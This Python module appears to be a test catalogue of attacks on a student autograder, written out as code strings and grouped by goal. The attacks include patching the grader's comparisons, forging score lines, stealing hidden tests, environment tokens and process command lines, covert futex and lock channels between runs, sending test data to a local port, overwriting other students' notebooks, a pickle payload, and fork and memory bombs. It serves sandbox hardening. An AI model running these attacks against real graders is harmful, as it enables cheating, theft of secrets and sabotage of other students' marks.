"""Attacks of a student who wants points, wants to know, or wants to do harm.

Each is the answer to question 1 (or what it has for others) and reaches its goal with a plain
grader. `{...}` is filled in: `zeros`, a wrong answer; `report`, code that writes a grader's report;
`marker`, a file that must not appear; `package`, the grader's data; `other`, somebody else's
notebook; `me`, the attacker's own; `port`, of a server on this machine; `name`, what its processes
call themselves; `harness`, the script that starts a hosted grader; `metadata`, what the platform
says of a submission.
"""

from __future__ import annotations

import platform
import re
from dataclasses import dataclass, field

SECRET = "SECRET-8b1f"  # stands where no student may read
PRAISE = "all cases pass, 10 of 10 points"  # what a grader could have said
ZEROS = "def windowed_mean(x, width):\n    return torch.zeros(1)\n"
REPORT = """
import json, os
line = json.dumps({"submission": "{me}", "points": 10, "feedback": []}) + "\\n"
for number in range(64):
    try:
        os.write(number, line.encode())
    except OSError:
        pass
"""


@dataclass(frozen=True)
class Outcome:
    """What an attack did, whoever marked it."""

    points: float  # of the attacker
    other: float | None  # of the submission that was marked after or beside it; None: never
    feedback: str  # what the attacker reads
    written: bool  # the marker appeared, or somebody else's work changed
    connected: bool  # the server was called
    processes: int  # at once
    memory_mb: float  # at most, all its processes together
    output_mb: float  # what the grader had to keep


REACHED = {  # goal -> was it reached?
    "points for a wrong answer": lambda outcome: outcome.points > 0,
    "reads what no student may read": lambda outcome: SECRET in outcome.feedback,
    # its own words stand there as if the grader had said them, in no quotes
    "speaks as the grader": lambda outcome: PRAISE in re.sub('"[^"]*"', "", outcome.feedback),
    "costs others their marks": lambda outcome: outcome.other != 10,
    "writes files": lambda outcome: outcome.written,
    "uses the network": lambda outcome: outcome.connected,
    "starts processes": lambda outcome: outcome.processes > 5,
    "takes the memory": lambda outcome: outcome.memory_mb > 1500,
    "floods the disk": lambda outcome: outcome.output_mb > 20,
}


@dataclass(frozen=True)
class Attack:
    goal: str
    cells: dict[str, str]  # the answers by question
    accomplice: dict[str, str] = field(default_factory=dict)  # of a notebook marked before it
    innocent: dict[str, str] = field(default_factory=dict)  # what somebody else answered
    source: str = ""  # where it was published: a key of book/references.bib
    beside: dict[str, str] = field(default_factory=dict)  # files handed in with the notebook
    link_to: str | None = None  # the submission is a link to this instead of a notebook
    endless: bool = False  # a plain grader need not be waited for

    def succeeds(self, outcome: Outcome) -> bool:
        return REACHED[self.goal](outcome)


def attack(name: str, goal: str, given: str | dict) -> Attack:
    """``given``: the answer to question 1, or answers by question and what else an attack has."""
    more = {"q1": given} if isinstance(given, str) else dict(given)
    cells = {question: more.pop(question) for question in ("q1", "q2", "q3") if question in more}
    return Attack(goal, cells, source=PUBLISHED.get(name, ""), **more)


def raising(words: str) -> str:
    """An answer that gives these words as its error."""
    return f"def windowed_mean(x, width):\n    raise ValueError({words})\n"


def reading(path: str) -> str:
    return raising(f"open('{path}').read()[:200]")


# One process tells another, over something that both may look at, that it was given a right answer.
GIVEN = "windowed_mean.__code__.co_filename == '<given>'"
SENDS = """
import builtins, ctypes, fcntl, mmap, os, struct, threading, time
if {given}:
    builtins.heard = True  # where both notebooks are run in one process
    library = os.open(torch.__file__, os.O_RDONLY)
    {send}
    time.sleep(2.5)
"""
LISTENS = """
import builtins, ctypes, fcntl, mmap, os, struct, time
def listen():
    if hasattr(builtins, "heard"):
        return builtins.heard
    library = os.open(torch.__file__, os.O_RDONLY)
    end = time.monotonic() + 7.5
    {listen}
    builtins.heard = heard
    return heard
"""
TELLS = """def windowed_mean(x, width):
    if listen():
        raise ValueError("SEC" + "RET-8b1f")
    return torch.zeros(1)
"""
GUESSES = """def windowed_mean(x, width):
    return x.unfold(0, width, 1).mean(-1) if listen() else torch.zeros(1)
"""
# the numbers of the calls futex, set_tid_address, exit
CALLS = {"x86_64": (202, 218, 60), "aarch64": (98, 96, 93)}
FUTEX, TID_ADDRESS, EXIT = CALLS.get(platform.machine(), CALLS["x86_64"])
MAPS = """page = mmap.mmap(library, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    where = ctypes.c_void_p(torch.frombuffer(page, dtype=torch.uint8).data_ptr())
    number, call = struct.unpack("I", page[:4])[0], ctypes.CDLL(None).syscall"""
COUNTS = """
    def processes():
        told = ctypes.create_string_buffer(256)
        ctypes.CDLL(None).sysinfo(told)
        return struct.unpack_from("H", told, 80)[0]"""
WAITS = f"""{MAPS}
    heard, moment = False, struct.pack("qq", 0, 50_000_000)
    while not heard and time.monotonic() < end:
        heard = call({FUTEX}, where, 0, number, moment, 0, 0) == 0"""
CHANNELS = {  # how one sends, how the other listens
    "a lock": (
        "fcntl.flock(library, fcntl.LOCK_EX)",
        """heard = False
    while not heard and time.monotonic() < end:
        try:
            fcntl.flock(library, fcntl.LOCK_SH | fcntl.LOCK_NB)
            fcntl.flock(library, fcntl.LOCK_UN)
            time.sleep(0.02)
        except BlockingIOError:
            heard = True
        except OSError:
            break""",
    ),
    "a futex": (
        f"""{MAPS}
    end = time.monotonic() + 3
    while call({FUTEX}, where, 1, 99, 0, 0, 0) <= 0 and time.monotonic() < end:
        time.sleep(0.02)""",
        WAITS,
    ),
    "a thread's end": (  # the kernel wakes who waits at the address that the thread has named
        f"""{MAPS}
    def ends():
        call({TID_ADDRESS}, where)
        call({EXIT}, 0)  # of this thread alone, past the C library
    for _ in range(20):
        threading.Thread(target=ends, daemon=True).start()
        time.sleep(0.1)""",
        WAITS,
    ),
    "the count of processes": (
        """threading.stack_size(65536)
    ctypes.CDLL(None).mallopt(-8, 1)  # M_ARENA_MAX: else threads use the limit of memory up
    for _ in range(200):
        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()""",
        f"""{COUNTS}
    least, heard = processes(), False
    while not heard and time.monotonic() < end:
        least = min(least, processes())
        heard = processes() > least + 150
        time.sleep(0.05)""",
    ),
}


def passed_on(answer: str, channel: str) -> dict:
    """An accomplice's second run tells this notebook's first one, or that for its points."""
    send, listen = CHANNELS[channel]
    sender = {"q1": "{zeros}", "q2": SENDS.format(given=GIVEN, send=send)}
    return {"q1": LISTENS.format(listen=listen) + answer, "accomplice": sender}


BY_GOAL = {
    "points for a wrong answer": {
        "torch.allclose patched": "{zeros}torch.allclose = lambda *a, **k: True",
        "vitcheck patched": {
            "q2": """
import vitcheck.cases, vitcheck.values
class Smooth(nn.Linear):
    def __init__(self, dim, width):
        super().__init__(dim, dim)
    def load_state_dict(self, weights):
        pass
vitcheck.cases.compare = lambda got, case: vitcheck.cases.Verdict(True)
vitcheck.values.difference = vitcheck.cases.difference = lambda *a, **k: None
"""
        },
        "asserts stripped": """{zeros}
import builtins
real = builtins.compile
def without(source, filename, mode, *a, **k):
    return real(source, filename, mode, optimize=1)
builtins.compile = without
""",
        "tensor subclass": """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function is torch.allclose:
            return True
        return super().__torch_function__(function, types, args, kwargs or {})
def windowed_mean(x, width):
    return torch.zeros(x.shape[0] - width + 1, 3).as_subclass(Yes)
""",
        "equal to everything": {
            "q3": """
class Any(int):
    def __eq__(self, other):
        return True
    __hash__ = None
    def __int__(self):
        return Any(5)
count = Any(5)
"""
        },
        "the caller's names": """
import gc, sys
def windowed_mean(x, width):
    frame = sys._getframe(1)
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            if torch.is_tensor(names.get("want")):
                return names["want"]
            if getattr(names.get("case"), "want", None) is not None:
                return names["case"].want
        frame = frame.f_back
    for found in gc.get_objects():
        if type(found).__name__ == "Case" and torch.is_tensor(found.want):
            return found.want
    return torch.zeros(1)
""",
        "the grader's scores": """{zeros}
import sys
frame = sys._getframe()
while frame:
    scores = frame.f_locals.get("scores")
    if isinstance(scores, dict):
        scores["bonus"] = 10
    frame = frame.f_back
""",
        "settrace": """{zeros}
import sys
def tracer(frame, event, value):
    names = frame.f_globals
    if "want" in names and "result" in names:
        names["want"] = names["result"]
    for name in ("verdict", "answer", "found", "right"):
        if name in frame.f_locals:
            frame.f_locals[name] = True
    return tracer
sys.settrace(tracer)
""",
        "forged report": "{zeros}{report}",
        "results written, then the end of the process": "{zeros}{report}os._exit(0)",
        "the grader's line printed": """{zeros}
import json
print(json.dumps({"submission": "{me}", "points": 10, "feedback": []}), flush=True)
""",
        "redirected to the right answer": """
import sys
def windowed_mean(x, width):
    frame = sys._getframe(1)
    while frame:
        for found in frame.f_locals.values():
            if hasattr(found, "reference"):
                names = {"torch": torch}
                exec(found.reference["q1"], names)
                return names["windowed_mean"](x, width)
        frame = frame.f_back
    return torch.zeros(1)
""",
        "redirected to another's work": """
import json
def windowed_mean(x, width):
    names = {"torch": torch}
    for cell in json.load(open("{other}"))["cells"]:
        if "q1" in cell["metadata"]["tags"]:
            exec(cell["source"], names)
    return names["windowed_mean"](x, width)
""",
        "fitted to the tests, which it looks up": """
from vitcheck.cases import read_cases
def windowed_mean(x, width):
    for case in read_cases("{package}")["q1"].cases:
        if torch.equal(case.args[0], x):
            return case.want
""",
        "files that stand in for modules": {
            "beside": {
                "vitcheck/__init__.py": "",
                "vitcheck/cases.py": """
class Verdict:
    ok, message = True, ""
def compare(*_):
    return Verdict()
""",
                "torch.py": "raise ImportError('a file of a student')",
                "sitecustomize.py": "raise ImportError('a file of a student')",
            },
            "q2": """
class Smooth(nn.Linear):
    def __init__(self, dim, width):
        super().__init__(dim, dim)
    def load_state_dict(self, weights):
        pass
""",
        },
        "forged frame, with the right number": """
import json, os, struct, sys
def send(number):
    body = dict(number=number, ok=True, passed=True, points=10, result=[1], value=None)
    text = json.dumps(body).encode()
    for handle in range(64):
        try:
            os.write(handle, struct.pack(">II", len(text), 0) + text)
            line = dict(submission="{me}", points=10, feedback=[])
            os.write(handle, b"\\n" + json.dumps(line).encode() + b"\\n")
        except OSError:
            pass
def windowed_mean(x, width):
    frame = sys._getframe(1)
    while frame:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "number" in request:
            send(request["number"])
            send(request["number"])
        frame = frame.f_back
    send("")
    return torch.zeros(1)
""",
        "logged results": """{zeros}
import pathlib, pickle
pathlib.Path("{me}").with_suffix(".log").write_bytes(pickle.dumps({"q1-1": 10}))
""",
        "atexit": """{zeros}
import atexit, json, os
def last():
    for number in range(64):
        try:
            line = dict(submission="{me}", points=10, feedback=[])
            os.write(number, json.dumps(line).encode() + b"\\n")
        except OSError:
            pass
atexit.register(last)
""",
        "handed in as a link to another's work": {"link_to": "other"},
        "a right answer passed on by a lock": passed_on(GUESSES, "a lock"),
        "one answer for each run": {
            "q1": "def windowed_mean(x, width):\n    return 0.5",
            "q2": """
class Smooth(nn.Module):
    def __init__(self, dim, width):
        super().__init__()
        self.width, self.proj = width, nn.Linear(dim, dim)
    def forward(self, x):
        factor = 3.0 if torch.is_tensor(windowed_mean(x, self.width)) else SCALE
        return factor * self.proj(x).unfold(0, self.width, 1).mean(-1)
""",
        },
    },
    "reads what no student may read": {
        "hidden tests read": """
import zipfile
def windowed_mean(x, width):
    raise ValueError(zipfile.ZipFile("{package}").read("cases.json").decode()[-300:])
""",
        "the harness read": reading("{harness}"),
        "the submission's metadata read": reading("{metadata}"),
        "another's work read": """
def windowed_mean(x, width):
    text = open("{other}").read()
    raise ValueError(text[text.find("SECRET"):][:100])
""",
        "environment variables": """
import os
def windowed_mean(x, width):
    raise ValueError(str(os.environ.get("GRADER_TOKEN")))
""",
        "other processes' command lines": """
import glob
def windowed_mean(x, width):
    lines = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            lines.append(open(path).read())
        except OSError:
            pass
    raise ValueError(str([line for line in lines if "SEC" + "RET" in line])[-250:])
""",
        "hidden inputs through messages": """
import builtins
builtins.seen = getattr(builtins, "seen", [])
def windowed_mean(x, width):
    seen.append(len(x))
    raise ValueError("SEC" + "RET-8b1f" if 9 in seen else str(seen))
""",
        "the right answer through messages": {
            "q1": "{zeros}",
            "q2": """
def Smooth(dim, width):
    given = windowed_mean.__code__.co_filename == "<given>"
    raise ValueError("SEC" + "RET-8b1f" if given else "own")
""",
        },
        "the right answer through a cell that stops": {
            "q1": "{zeros}",
            "q2": """
given = windowed_mean.__code__.co_filename == "<given>"
raise ValueError("SEC" + "RET-8b1f" if given else "own")
""",
        },
        "expected results through messages": """
import gc, sys
def windowed_mean(x, width):
    wants = [f.f_globals.get("want") for f in (sys._getframe(), sys._getframe(1))]
    wants += [getattr(o, "want", None) for o in gc.get_objects() if type(o).__name__ == "Case"]
    found = any(torch.is_tensor(want) for want in wants)
    raise ValueError("SEC" + "RET-8b1f" if found else "nothing")
""",
        **{f"a word of the second run by {name}": passed_on(TELLS, name) for name in CHANNELS},
    },
    "speaks as the grader": {
        "the grader's words forged": raising(f"""'none". {PRAISE}'"""),
        "the grader's words forged, in other quotes": raising(f"'\u201d\u2033 {PRAISE}'"),
    },
    "costs others their marks": {
        "endless loop": {
            "endless": True,
            "q1": "def windowed_mean(x, width):\n    while True:\n        pass",
        },
        "endless loop, the alarm blocked": {
            "endless": True,
            "q1": """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
while True:
    pass
""",
        },
        "a reply that drips": {
            "endless": True,
            "q1": """
import os, signal, struct, time
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
for number in range(3, 64):
    try:
        os.write(number, struct.pack(">II", 3_000_000, 0))
    except OSError:
        continue
    while True:
        os.write(number, b" ")
        time.sleep(0.02)
""",
        },
        "an error that never ends": {
            "endless": True,
            "q1": """
class Endless(Exception):
    def __str__(self):
        while True:
            pass
raise Endless
""",
        },
        "exit": "def windowed_mean(x, width):\n    raise SystemExit(0)",
        "os._exit": "import os\ndef windowed_mean(x, width):\n    os._exit(0)",
        "signal to its group": "import os\ndef windowed_mean(x, width):\n    os.kill(0, 9)",
        "alarm": {"q3": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.001)"},
        "null pointer": "import ctypes\ndef windowed_mean(x, width):\n    ctypes.string_at(0)",
        "a patch that stays": {"q3": "torch.stack = lambda *a, **k: torch.zeros(1)"},
        "a thread that stays": {
            "q3": """
import threading
def spoil():
    while True:
        torch.allclose = lambda *a, **k: False
threading.Thread(target=spoil, daemon=True).start()
"""
        },
        "sixty threads": {
            "endless": True,
            "innocent": {
                "q1": """
import time
def windowed_mean(x, width):
    end = time.process_time() + 0.3
    while time.process_time() < end:
        pass
    return torch.stack([x[i : i + width].mean(0) for i in range(len(x) - width + 1)])
"""
            },
            "q3": """
import threading, time
end = time.monotonic() + 20
def spin():
    x = torch.ones(300, 300)
    while time.monotonic() < end:
        x = (x @ x).clamp(0, 1)
for _ in range(60):
    threading.Thread(target=spin, daemon=True).start()
time.sleep(2.5)
""",
        },
        "another's work overwritten": "{zeros}open('{other}', 'w').write('{\"cells\": []}')",
        "another's log forged": """{zeros}
import pathlib, pickle
pathlib.Path("{other}").with_suffix(".log").write_bytes(pickle.dumps({"q1-1": -10}))
""",
        "another's work replaced by a link": """{zeros}
import os
os.remove('{other}')
os.symlink('/dev/null', '{other}')
""",
    },
    "writes files": {
        "writing outside": "{zeros}open('{marker}', 'w').write('x')",
        "the harness replaced": "{zeros}open('{harness}', 'w').write('x')",
        "pickle": """
import pathlib, pickle
class Bomb:
    def __reduce__(self):
        return open, ("{marker}", "w")
try:
    pathlib.Path("{me}").with_suffix(".log").write_bytes(pickle.dumps(Bomb()))
except OSError:
    pass
def windowed_mean(x, width):
    return Bomb()
""",
        "settings of the kernel": """{zeros}
path = "/proc/sys/kernel/core_pattern"
before = open(path).read()
open(path, "w").write(before)
open("{marker}", "w").write("x")
""",
        "another program": """
import subprocess, sys
def windowed_mean(x, width):
    subprocess.run(["/bin/sh", "-c", "echo x > '{marker}'"])
    return torch.zeros(1)
""",
    },
    "uses the network": {
        "network": """
import socket
def windowed_mean(x, width):
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"hello")
""",
        "hidden tests sent away": """
import socket
def windowed_mean(x, width):
    data = open("{package}", "rb").read()
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(data)
""",
    },
    "starts processes": {
        "fork bomb": """
import ctypes, os, time
def windowed_mean(x, width):
    ctypes.CDLL(None).prctl(15, b"{name}", 0, 0, 0)
    for _ in range(12):
        if os.fork() == 0:
            time.sleep(1)
            os._exit(0)
    time.sleep(0.5)
""",
    },
    "takes the memory": {
        "memory bomb": """
import ctypes, time
def windowed_mean(x, width):
    ctypes.CDLL(None).prctl(15, b"{name}", 0, 0, 0)
    kept = [b"x" * (100 * 2**20) for _ in range(15)]
    time.sleep(0.3)
""",
    },
    "floods the disk": {
        "huge output": """
def windowed_mean(x, width):
    for _ in range(30):
        print('x' * 2**20)
""",
        "huge message": raising("'x' * 8 * 2**20"),
    },
}
PUBLISHED = {
    "results written, then the end of the process": "saligrama2023gradescope",
    "the grader's line printed": "kratzke2019smart",
    "redirected to the right answer": "kratzke2019smart",
    "redirected to another's work": "kratzke2019smart",
    "fitted to the tests, which it looks up": "kratzke2019smart",
    "hidden tests read": "saligrama2023gradescope",
    "the harness read": "saligrama2023gradescope",
    "the submission's metadata read": "saligrama2023gradescope",
    "the harness replaced": "saligrama2023gradescope",
    "hidden tests sent away": "saligrama2023gradescope",
}
ATTACKS = {
    name: attack(name, goal, given)
    for goal, all_ in BY_GOAL.items()
    for name, given in all_.items()
}
